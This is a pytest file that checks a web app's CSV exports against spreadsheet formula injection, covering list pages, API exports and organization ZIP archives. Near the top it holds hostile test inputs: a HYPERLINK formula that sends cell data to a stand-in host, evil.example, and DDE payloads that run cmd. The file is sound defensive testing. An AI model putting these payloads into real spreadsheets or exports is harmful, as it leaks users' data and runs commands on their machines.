"""Every CSV the app writes keeps formulas behind an apostrophe and numbers as numbers."""

import csv
import io
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from sqlmodel import Session

from api import csv_export
from api.sources import exports
from api.sources.models import SuggestedVote
from tests import factories as f
from web.concepts import SPECS

# Spaces first: a spreadsheet skips them and runs the formula all the same.
PAYLOAD = '  =HYPERLINK("https://evil.example/?d="&A1,"Open")'
ATTACKS = ['=HYPERLINK("https://evil.example/","x")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1",
           "\u00a0 @SUM(A1)", "\n+1"]


def suggested_vote(session: Session, actor: Any, **values: Any) -> Any:
    body = f.make_body(session, actor)
    found = SuggestedVote(body_id=body.id, source_event_id="1080", source_item_id="32041",
                          scheduled_at=datetime(2026, 4, 14, 1, 0, tzinfo=UTC),
                          title="Flock renewal", **values)
    session.add(found)
    session.commit()
    return found


# The API's name of each list: the factory of one record and a text column to fill with a
# formula. Text a form would trim is written straight to the table: an export may not rely
# on what the forms let in.
MAKERS: dict[str, tuple[Callable[..., Any], str]] = {
    "organizations": (f.make_organization, "notes"),
    "people": (f.make_person, "notes"),
    "affiliations": (f.make_affiliation, "role"),
    "jurisdictions": (f.make_jurisdiction, "name"),
    "bodies": (f.make_body, "name"),
    "targets": (f.make_target, "notes"),
    "agencies": (f.make_agency, "notes"),
    "vendors": (f.make_vendor, "notes"),
    "contracts": (f.make_contract, "notes"),
    "campaigns": (f.make_campaign, "description"),
    "votes": (f.make_vote, "notes"),
    "meetings": (f.make_meeting, "summary"),
    "actions": (f.make_action, "description"),
    "tasks": (f.make_task, "notes"),
    "records-requests": (f.make_records_request, "notes"),
    "documents": (f.make_document, "description"),
    "media-contacts": (f.make_media_contact, "notes"),
    "press-hits": (f.make_press_hit, "summary"),
    "suggested-votes": (suggested_vote, "title"),
    "sharing-links": (f.make_sharing_link, "partner_name"),
    "evidence": (f.make_evidence_entry, "summary"),
    "known-outcomes": (f.make_known_outcome, "notes"),
}
# The list pages: the API's list of the same records, and a column the list shows.
API_NAMES = {"press": "press-hits", "outcomes-elsewhere": "known-outcomes"}
PAGES = {noun: (API_NAMES.get(noun, noun),
                "summary" if noun == "meetings" else SPECS[noun].title_key) for noun in SPECS}


def make_with(session: Session, actor: Any, concept: str, column: str, text: str) -> Any:
    factory, _ = MAKERS[concept]
    record = factory(session, actor)
    model = type(record)
    session.execute(sa.update(model).where(model.id == record.id).values({column: text}))
    session.commit()
    return record


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def assert_safe(rows: list[list[str]], where: str) -> None:
    """No cell but a number starts like a formula, even after spaces."""
    for row in rows:
        for value in row:
            assert not (csv_export.formula_like(value) and not is_number(value)), (where, value)


def escaped_cells(rows: list[list[str]]) -> list[str]:
    return [value for row in rows for value in row if "evil.example" in value]


def test_every_list_and_export_is_covered() -> None:
    assert set(MAKERS) == set(exports.LISTS)
    assert {concept for concept, _ in PAGES.values()} <= set(MAKERS)


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_cell_gets_an_apostrophe(attack: str) -> None:
    assert csv_export.cell(attack) == "'" + attack
    assert csv_export.cell([attack, "b"]) == "'" + attack + "; b"
    assert csv_export.unescaped(csv_export.cell(attack)) == attack
    assert csv_export.cell("Plain text - with a dash") == "Plain text - with a dash"


@pytest.mark.parametrize(("value", "text"), [
    (Decimal("-12.50"), "-12.50"), (-3, "-3"), (-0.5, "-0.5"), (Decimal("1234.50"), "1234.50"),
    ("-12.50", "'-12.50"), (True, "true"), (None, "")])
def test_numbers_stay_numbers_and_text_that_looks_like_one_does_not(value: Any,
                                                                    text: str) -> None:
    assert csv_export.cell(value) == text
    assert rows_of(csv_export.write(["amount"], [[value]]).encode()) == [["amount"], [text]]


@pytest.mark.parametrize("noun", sorted(PAGES))
def test_list_page_csv(noun: str, client: TestClient, session: Session, actor: Any) -> None:
    concept, column = PAGES[noun]
    make_with(session, actor, concept, column, PAYLOAD)
    response = client.get(f"/{noun}.csv")
    assert response.status_code == 200, response.text
    rows = rows_of(response.content)
    assert escaped_cells(rows) == ["'" + PAYLOAD]
    assert_safe(rows, noun)


@pytest.mark.parametrize("concept", sorted(MAKERS))
def test_api_export_csv(concept: str, client: TestClient, session: Session,
                        actor: Any) -> None:
    column = MAKERS[concept][1]
    make_with(session, actor, concept, column, PAYLOAD)
    response = client.get(f"/api/v1/exports/{concept}.csv")
    assert response.status_code == 200, response.text
    rows = rows_of(response.content)
    # A form's trimmed text (a name) is read back trimmed; either way it is escaped.
    assert escaped_cells(rows) in (["'" + PAYLOAD], ["'" + PAYLOAD.strip()])
    assert_safe(rows, concept)


def test_an_amount_stays_a_number_on_the_list_page_and_in_the_api(
        client: TestClient, session: Session, actor: Any) -> None:
    contract = f.make_contract(session, actor, title="-12.50 is not an amount",
                               annual_cost=Decimal("1234.5"))
    listed = rows_of(client.get("/contracts.csv").content)
    column = listed[0].index("Annual cost")
    assert [r[column] for r in listed[1:]] == ["1234.50"]
    assert listed[1][listed[0].index("Contract")] == "'-12.50 is not an amount"
    exported = rows_of(client.get("/api/v1/exports/contracts.csv").content)
    assert exported[1][exported[0].index("annual_cost")] == "1234.50"
    # A refund kept as a negative amount (the forms refuse one; an older import may not have)
    # is a number a spreadsheet adds up, not a formula.
    session.execute(sa.update(type(contract)).where(type(contract).id == contract.id)
                    .values(annual_cost=Decimal("-12.50")))
    session.commit()
    listed = rows_of(client.get("/contracts.csv").content)
    assert [r[column] for r in listed[1:]] == ["-12.50"]


@pytest.mark.parametrize("url", ["/api/v1/exports/organizations/{id}.zip",
                                 "/api/v1/organizations/{id}/export"])
def test_organization_zip_csvs(url: str, client: TestClient, session: Session,
                               actor: Any) -> None:
    ours = f.make_organization(session, actor)
    owner = {"owner_organization_id": ours.id}
    made = [
        (ours, "notes"),
        (f.make_person(session, actor, **owner), "notes"),
        (f.make_target(session, actor, **owner), "notes"),
        (f.make_meeting(session, actor, organization_id=ours.id), "summary"),
        (f.make_action(session, actor, **owner), "description"),
        (f.make_task(session, actor, **owner), "notes"),
        (f.make_records_request(session, actor, requester_organization_id=ours.id), "notes"),
        (f.make_document(session, actor, **owner), "description"),
    ]
    for record, column in made:
        model = type(record)
        session.execute(sa.update(model).where(model.id == record.id).values({column: PAYLOAD}))
    session.commit()
    response = client.get(url.format(id=ours.id))
    assert response.status_code == 200, response.text
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    tables = [name for name in archive.namelist() if name.endswith(".csv")]
    assert {"organization.csv", "people.csv", "targets.csv", "meetings.csv", "actions.csv",
            "tasks.csv", "records_requests.csv", "documents.csv"} <= set(tables)
    found = 0
    for name in tables:
        rows = rows_of(archive.read(name))
        assert_safe(rows, name)
        found += len(escaped_cells(rows))
        assert set(escaped_cells(rows)) <= {"'" + PAYLOAD}, name
    assert found == len(made)
